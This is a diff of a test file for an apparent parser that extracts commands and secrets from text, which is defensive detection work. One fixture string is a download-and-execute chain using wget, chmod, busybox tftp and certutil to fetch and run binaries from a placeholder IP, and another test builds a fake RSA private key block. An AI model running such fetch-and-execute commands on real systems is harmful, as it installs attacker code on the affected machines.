@@ -46,7 +46,7 @@ test('addresses and names, and what only looks like them', () => {
 
 test('commands that fetch, as they stand there', () => {
   const line =
-    'cd /tmp && wget http://192.0.2.9/x -O y; chmod +x y | ./y; /bin/busybox tftp -g -r z 192.0.2.9; certutil.exe -urlcache -f http://192.0.2.9/a.exe a.exe & echo wget'
+    'cd /tmp && (wget http://192.0.2.9/x -O y); chmod +x y | ./y; /bin/busybox tftp -g -r z 192.0.2.9; certutil.exe -urlcache -f http://192.0.2.9/a.exe a.exe & echo wget'
   assert.deepEqual(of(line, 'command'), [
     'wget http://192.0.2.9/x -O y',
     '/bin/busybox tftp -g -r z 192.0.2.9',
@@ -146,10 +146,7 @@ test('keys, tokens and webhooks', () => {
   for (const [kind, text, value] of table)
     assert.deepEqual(
       secretsIn(`a "${text}" b`).filter(found => found.kind === kind),
-      [{ kind, value: value ?? text.replace(/"$/, '') }].map(found => ({
-        ...found,
-        value: kind === 'ssh-key' ? `${found.value}"` : found.value,
-      })),
+      [{ kind, value: value ?? text }],
     )
   assert.match(
     secretsIn(`-----BEGIN RSA PRIVATE KEY-----\n${x(64)}\n-----END RSA PRIVATE KEY-----`)[0]!.value,
